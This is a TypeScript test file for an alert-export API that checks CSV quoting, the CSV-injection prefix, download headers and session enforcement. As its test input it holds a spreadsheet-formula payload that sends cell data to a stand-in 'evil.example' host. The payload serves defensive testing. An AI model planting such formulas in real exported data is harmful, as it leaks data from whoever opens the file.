/**
 * GET /api/alerts/export (issue 6, engineer view): CSV per RFC 4180 with the formula
 * prefix against CSV injection, JSON as the API's AlertView list, a download
 * (Content-Disposition: attachment), and nothing without a session.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningAgent } from '../../agent/src/app.ts';
import { alertsCsv, csvField, EXPORT_COLUMNS } from '../../agent/src/server/alert-export.ts';
import type { AlertView } from '../../agent/src/server/dashboard-protocol.ts';
import { agentRequest, DashboardClient, startTestAgent, temporaryDataDir } from '../helpers/agent-fixture.ts';

/** A minimal RFC 4180 reader: quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else field += char;
  }
  if (field !== '' || record.length > 0) records.push([...record, field]);
  return records;
}

describe('csv fields', () => {
  it('quotes every field, doubles quotes, and prefixes = + - @ tab and CR with a quote mark', () => {
    expect(csvField('plain')).toBe('"plain"');
    expect(csvField('say "hi", twice')).toBe('"say ""hi"", twice"');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
    expect(csvField(null)).toBe('""');
    expect(csvField(3)).toBe('"3"');
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvField(`${start}SUM(A1)`)).toBe(`"'${start}SUM(A1)"`);
    expect(alertsCsv([])).toBe(`${EXPORT_COLUMNS.map((name) => `"${name}"`).join(',')}\r\n`);
  });
});

describe('alerts export over HTTP', () => {
  const data = temporaryDataDir();
  let agent: RunningAgent;
  let nurse: DashboardClient;
  const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

  beforeAll(async () => {
    agent = await startTestAgent(data.dir);
    nurse = await DashboardClient.logIn(agent, data.dir, 'nurse');
    agent.alerts.raise({ type: 'dashboard-login-burst', ts: Date.now(), device: null, dedupKey: 'export-test-1', title: hostile, evidence: { note: 'from the export test' } });
    agent.alerts.raise({ type: 'dashboard-login-burst', ts: Date.now(), device: null, dedupKey: 'export-test-2', title: 'Plain, with a comma and "quotes"', evidence: {} });
  });

  afterAll(async () => {
    await agent.stop();
    data.remove();
  });

  it('answers CSV with a header row, RFC 4180 quoting, the injection prefix, as an attachment', async () => {
    const answer = await nurse.get('/api/alerts/export?format=csv');
    expect(answer.status).toBe(200);
    expect(answer.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="wardwatch-alerts-\d{8}T\d{6}Z\.csv"$/);
    expect(answer.headers['x-content-type-options']).toBe('nosniff');
    expect(answer.body.endsWith('\r\n')).toBe(true);
    const [header, ...rows] = parseCsv(answer.body);
    expect(header).toEqual([...EXPORT_COLUMNS]);
    expect(rows).toHaveLength(2);
    for (const row of rows) expect(row).toHaveLength(EXPORT_COLUMNS.length);
    const titles = rows.map((row) => row[EXPORT_COLUMNS.indexOf('title')]);
    expect(titles).toContain(`'${hostile}`);
    expect(titles).toContain('Plain, with a comma and "quotes"');
    // On the wire: the quote doubled inside the quoted field.
    expect(answer.body).toContain('"Plain, with a comma and ""quotes"""');
    const first = rows.find((row) => row[EXPORT_COLUMNS.indexOf('title')] === `'${hostile}`);
    expect(first?.[EXPORT_COLUMNS.indexOf('severity')]).toBe('high');
    expect(first?.[EXPORT_COLUMNS.indexOf('state')]).toBe('open');
    expect(first?.[EXPORT_COLUMNS.indexOf('count')]).toBe('1');
    expect(first?.[EXPORT_COLUMNS.indexOf('acknowledgedBy')]).toBe('');
  });

  it('shows the acknowledgement in the CSV once an alert is acknowledged', async () => {
    const alerts = await nurse.json<AlertView[]>('/api/alerts');
    const plain = alerts.find((alert) => alert.title.startsWith('Plain'));
    if (plain === undefined) throw new Error('test alert missing');
    expect((await nurse.post(`/api/alerts/${plain.id}/ack`, { reason: '-1 false alarm' })).status).toBe(200);
    const rows = parseCsv((await nurse.get('/api/alerts/export?format=csv')).body);
    const row = rows.find((candidate) => candidate[0] === plain.id);
    expect(row?.[EXPORT_COLUMNS.indexOf('state')]).toBe('acknowledged');
    expect(row?.[EXPORT_COLUMNS.indexOf('acknowledgedBy')]).toBe(nurse.user.username);
    expect(row?.[EXPORT_COLUMNS.indexOf('reason')]).toBe("'-1 false alarm");
  });

  it('answers JSON: the AlertView list with evidence, as an attachment', async () => {
    const answer = await nurse.get('/api/alerts/export?format=json');
    expect(answer.status).toBe(200);
    expect(answer.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="wardwatch-alerts-\d{8}T\d{6}Z\.json"$/);
    const alerts = answer.json<AlertView[]>();
    expect(alerts).toHaveLength(2);
    // JSON keeps values as they are: no prefix.
    expect(alerts.find((alert) => alert.title === hostile)?.evidence).toEqual({ note: 'from the export test' });
  });

  it('refuses an unknown format (400) and any request without a session (401)', async () => {
    expect((await nurse.get('/api/alerts/export?format=xlsx')).status).toBe(400);
    expect((await nurse.get('/api/alerts/export')).status).toBe(400);
    for (const format of ['csv', 'json']) {
      const anonymous = await agentRequest(agent, 'GET', `/api/alerts/export?format=${format}`);
      expect(anonymous.status).toBe(401);
      expect(anonymous.body).not.toContain('HYPERLINK');
      expect(anonymous.headers['content-disposition']).toBeUndefined();
    }
    const forged = await agentRequest(agent, 'GET', '/api/alerts/export?format=csv', { cookie: 'wardwatch_session=not-a-session' });
    expect(forged.status).toBe(401);
  });
});
